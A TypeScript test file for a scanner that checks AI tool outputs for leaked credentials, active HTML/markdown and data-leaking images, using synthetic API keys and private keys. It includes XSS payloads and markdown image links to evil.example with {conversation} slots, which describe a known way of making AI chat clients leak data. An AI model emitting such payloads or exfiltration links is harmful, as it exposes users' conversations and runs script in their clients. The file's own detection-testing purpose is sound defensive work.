import { describe, expect, it } from 'vitest';
import { analyzeToolOutcome } from '../analyze';
import { maskedSecret, outputRules } from './output';
import { ids, textHits } from './test-support';

// Secrets are assembled at run time so no literal in this file looks like a live credential to
// a secret scanner; the shapes are what matter.
const MIXED = 'aB3dE5fG7hJ9kL2mN4pQ6rS8tU0vW1xY';
const GITHUB_TOKEN = `ghp_${MIXED}Zz12`;
const AWS_KEY_ID = `AKIA${'Q3EGRW7ZJXN5T2LM'}`;
const AWS_SECRET = `${MIXED}/+Ab12Cd`;
const GITHUB_PAT = `github_pat_11ABCDEFG0${MIXED}_${MIXED}${MIXED}`;
const SLACK_TOKEN = `xoxb-${'123456789012'}-${'1234567890123'}-${MIXED.slice(0, 24)}`;
const STRIPE_LIVE = `sk_live_${MIXED.slice(0, 24)}`;
const GOOGLE_KEY = `AIza${MIXED}Qr_`;
const ANTHROPIC_KEY = `sk-ant-api03-${MIXED}${MIXED}-${MIXED}AA`;
const OPENAI_KEY = `sk-proj-${MIXED}${MIXED.slice(0, 16)}`;

function base64url(text: string): string {
  return btoa(text).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
}
const JWT = `${base64url('{"alg":"HS256","typ":"JWT"}')}.${base64url('{"sub":"42","name":"Ada"}')}.${MIXED}`;
const PEM_BODY = `MIIEpAIBAAKCAQEA${MIXED}\n${MIXED}${MIXED}==`;
const PRIVATE_KEY = `-----BEGIN RSA PRIVATE KEY-----\n${PEM_BODY}\n-----END RSA PRIVATE KEY-----`;

const out = (text: string, path = 'results/1/content/0/text') => textHits(outputRules, text, 'output', path);

describe('output/secret', () => {
  it.each([
    ['AWS access key id', `key: ${AWS_KEY_ID}`, AWS_KEY_ID],
    ['labelled AWS secret', `aws_secret_access_key = ${AWS_SECRET}\n`, AWS_SECRET],
    ['AWS secret in STS JSON', `{"SecretAccessKey": "${AWS_SECRET}"}`, AWS_SECRET],
    ['GitHub token', `token ${GITHUB_TOKEN} done`, GITHUB_TOKEN],
    ['GitHub fine-grained token', `GITHUB_TOKEN=${GITHUB_PAT}`, GITHUB_PAT],
    ['Slack token', `"${SLACK_TOKEN}"`, SLACK_TOKEN],
    ['Stripe live key', `stripe: ${STRIPE_LIVE}.`, STRIPE_LIVE],
    ['Google API key', `?key=${GOOGLE_KEY}&x=1`, GOOGLE_KEY],
    ['Anthropic key', `ANTHROPIC_API_KEY=${ANTHROPIC_KEY}`, ANTHROPIC_KEY],
    ['OpenAI key', `OPENAI_API_KEY="${OPENAI_KEY}"`, OPENAI_KEY],
    ['JWT', `Authorization: Bearer ${JWT}`, JWT],
    ['JWT at the end of a sentence', `Your session token is ${JWT}.`, JWT],
  ])('flags a %s with a span on exactly the secret and masked evidence', (_name, text, secret) => {
    const hits = out(text);
    expect(hits).toHaveLength(1);
    const [hit] = hits;
    expect(hit?.ruleId).toBe('output/secret');
    expect(hit?.severity).toBeUndefined();
    expect(text.slice(hit?.span?.start, hit?.span?.end)).toBe(secret);
    expect(hit?.evidence).toContain(`(${secret.length} chars)`);
    expect(hit?.evidence).not.toContain(secret.slice(-12));
    expect(hit?.message).not.toContain(secret.slice(-12));
  });

  it('flags a PEM private key as critical, also inside JSON with escaped newlines', () => {
    const [hit] = out(`key:\n${PRIVATE_KEY}\nok`);
    expect(hit).toMatchObject({ ruleId: 'output/secret', severity: 'critical', evidence: `private key: -----BEGIN RSA PRIVATE KEY-----…(${PRIVATE_KEY.length} chars)` });
    const escaped = JSON.stringify({ key: PRIVATE_KEY });
    const [inJson] = out(escaped);
    expect(escaped.slice(inJson?.span?.start, inJson?.span?.end)).toBe(JSON.stringify(PRIVATE_KEY).slice(1, -1));
  });

  it("rates AWS's documented example key low", () => {
    expect(out('AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE')).toMatchObject([{ ruleId: 'output/secret', severity: 'low' }]);
  });

  it('reports an sk-ant- key once, not also as an sk- key', () => {
    expect(out(ANTHROPIC_KEY).map((hit) => hit.evidence)).toEqual([`Anthropic API key: sk-ant-…(${ANTHROPIC_KEY.length} chars)`]);
  });

  it('does not fire on look-alikes', () => {
    const benign = [
      'commit 3f786850e387550fdab836ed7e6dc881de23001b', // a git SHA (40 hex)
      'id 123e4567-e89b-12d3-a456-426614174000', // a UUID
      'pip install scikit-learn  # aka sk-learn; see sk-learn-compatible-estimators-and-pipelines',
      `stripe test key sk_test_${MIXED.slice(0, 24)}`,
      `checksum ${AWS_SECRET}`, // 40 base64 characters without a label
      `${base64url('{"foo":"bar"}')}.${MIXED}.${MIXED}`, // three parts, but no JWT header
      'Set SLACK_TOKEN to xoxb-your-token-here',
      `X${AWS_KEY_ID}`, // inside a longer token
      'Paste the key, from -----BEGIN PRIVATE KEY----- to -----END PRIVATE KEY-----.',
    ];
    for (const text of benign) expect(out(text), text).toEqual([]);
  });

  it('skips the base64 data of image and audio blocks, but not structuredContent fields named data', () => {
    const data = `iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB\n${GITHUB_TOKEN}\nAAAA`;
    expect(out(data, 'results/1/content/0/data')).toEqual([]);
    expect(ids(out(data, 'results/1/structuredContent/content/0/data'))).toEqual(['output/secret']);
  });

  it('masks to the public prefix and the length', () => {
    expect(maskedSecret(GITHUB_TOKEN, /^gh[pousr]_/)).toBe('ghp_…(40 chars)');
    expect(maskedSecret(AWS_SECRET)).toBe('…(40 chars)');
  });
});

describe('output/active-content', () => {
  it.each([
    ['<p>hi</p><script src="https://x.example/a.js"></script>', 'high'],
    ['<img src=x onerror=alert(1)>', 'high'],
    ['<svg/onload=alert(1)>', 'high'],
    ['<a href=" javascript:alert(1)">open</a>', 'high'],
    ['<img alt=">" onerror="alert(1)" src=x>', 'high'],
    ['[open](javascript:alert(document.cookie))', undefined],
    ['<iframe src="https://x.example/"></iframe>', 'medium'],
  ])('flags %s', (text, severity) => {
    const [hit] = out(text);
    expect(hit).toMatchObject({ ruleId: 'output/active-content' });
    expect(hit?.severity).toBe(severity);
    expect(text.slice(hit?.span?.start, hit?.span?.end)).toBe(hit?.evidence);
  });

  it('does not fire on markup that runs nothing', () => {
    const benign = [
      '<div class="note"><b>Bold</b> and <a href="https://example.com/?section=one">a link</a></div>',
      '[docs](https://example.com/docs) and <https://example.com>',
      'if (a<b && c>d) el.onclick = handler;',
      'The javascript: scheme is blocked by this client.',
      '<input name="mode" value="on=1">',
      'Returns Array<object> or <Object> values.',
      '```html\n<script type="module">import x from "x";</script>\n```\nand `<img src=x onerror=alert(1)>` inline',
    ];
    for (const text of benign) expect(ids(out(text)), text).not.toContain('output/active-content');
  });
});

describe('output/external-image', () => {
  it.each([
    ['![a](https://evil.example/log?d={conversation})', 'high'],
    [`![a](https://evil.example/p.png?q=${'x'.repeat(120)})`, 'high'],
    [`<img src="https://evil.example/p.png?q=${'x'.repeat(40)}">`, 'medium'],
    ['![a](https://evil.example/p.png?d=%7Bhistory%7D)', 'high'],
    ['![badge](//img.shields.io/npm/v/x?style=flat)', 'low'],
    ['![chart](https://x.example/c.svg?config={%22a%22:1})', 'low'], // JSON in a query is not a slot
  ])('flags %s', (text, severity) => {
    expect(out(text).filter((hit) => hit.ruleId === 'output/external-image')).toMatchObject([{ severity }]);
  });

  it('does not fire on images that carry no data, or that are local, inline, linked or in code', () => {
    const benign = [
      '![logo](https://example.com/logo.png)',
      '```md\n![a](https://evil.example/log?d={conversation})\n```',
      '![diagram](./diagram.png)',
      '![dot](data:image/png;base64,iVBORw0KGgo=)',
      '[see the chart](https://example.com/chart.png?range=all)',
      '<img src="/static/logo.png">',
    ];
    for (const text of benign) expect(out(text), text).toEqual([]);
  });
});

describe('analyzeToolOutcome with output rules', () => {
  it('puts a secret finding on the text block, span on the token, and ignores image data', () => {
    const text = `Cloned with token ${GITHUB_TOKEN}. Done.`;
    const findings = analyzeToolOutcome({
      server: 'git',
      requestId: 7,
      tool: 'clone',
      result: {
        content: [
          { type: 'text', text },
          { type: 'image', mimeType: 'image/png', data: `iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB\n${GITHUB_TOKEN}\nAAAA` },
        ],
      },
    });
    const secret = findings.find((finding) => finding.ruleId === 'output/secret');
    expect(secret).toMatchObject({ family: 'output', severity: 'high', location: { server: 'git', path: 'results/7/content/0/text' } });
    expect(text.slice(secret?.location.span?.start, secret?.location.span?.end)).toBe(GITHUB_TOKEN);
    expect(findings.filter((finding) => finding.location.path === 'results/7/content/1/data')).toEqual([]);
  });
});
